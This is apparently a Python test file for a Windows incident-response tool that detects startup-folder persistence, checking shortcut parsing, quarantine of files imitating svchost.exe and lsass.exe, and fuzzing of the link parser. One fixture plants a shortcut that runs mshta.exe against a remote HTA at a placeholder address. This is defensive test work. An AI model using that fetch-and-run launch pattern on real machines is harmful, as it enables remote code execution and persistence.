from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from codered.collect.windows.autostart.startup_folders import read_link
from tests.fixtures.windows_machines import PROGRAM, Laid, collect, judge, write_link

ALL = "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
OWN = "Users/Administrator/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
OLD = "Documents and Settings/All Users/Start Menu/Programs/Startup"


def test_links_programs_and_scripts(tmp_path: Path) -> None:
    files = {f"{ALL}/tool.lnk": write_link("C:\\Program Files\\OneDrive.exe", "/x"), f"{ALL}/desktop.ini": b"",
             f"{OWN}/run.cmd": b"start notepad", "Users/another/x": b""}  # fmt: skip
    found = {one.entry: one for one in collect(tmp_path, Laid(files=files)) if one.kind == "startup_folder"}
    assert set(found) == {"tool.lnk", "run.cmd"}
    assert found["tool.lnk"].runs == ("C:\\Program Files\\OneDrive.exe",)
    assert found["tool.lnk"].files[0] is not None
    (tmp_path / "b").mkdir()
    assert judge(tmp_path / "b", Laid(files=files)) == {}


def test_planted_ones_are_findings(tmp_path: Path) -> None:
    files = {f"{OWN}/a.lnk": write_link("C:\\Windows\\System32\\mshta.exe", "http://192.0.2.1/x.hta"),
             f"{ALL}/svchost.exe": PROGRAM}  # fmt: skip
    found = judge(tmp_path, Laid(files=files))
    assert found["windows-imitates"].remedy == "quarantine_file"
    assert found["windows-imitates"].subject.path
    (tmp_path / "old").mkdir()
    assert judge(tmp_path / "old", Laid(files={f"{OLD}/lsass.exe": PROGRAM}), old=True)


@settings(max_examples=80, deadline=None)
@given(st.binary(max_size=200), st.integers(0, 300))
def test_hostile_links(noise: bytes, at: int) -> None:
    good = write_link("C:\\a.exe", "-b")
    assert read_link(good) == '"C:\\a.exe" -b'
    assert isinstance(read_link(good[:at] + noise + good[at:]), str)
    assert isinstance(read_link(good[:20] + noise), str)
